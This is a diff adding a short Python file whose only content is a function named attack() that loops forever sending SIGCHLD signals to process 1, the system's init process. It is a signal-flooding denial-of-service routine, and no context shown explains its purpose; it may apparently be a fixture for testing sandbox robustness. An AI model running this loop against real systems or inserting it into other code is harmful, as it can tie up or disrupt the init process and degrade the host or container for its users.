@@ -1,0 +1,7 @@
+import os
+import signal
+
+
+def attack():
+    while True:
+        os.kill(1, signal.SIGCHLD)
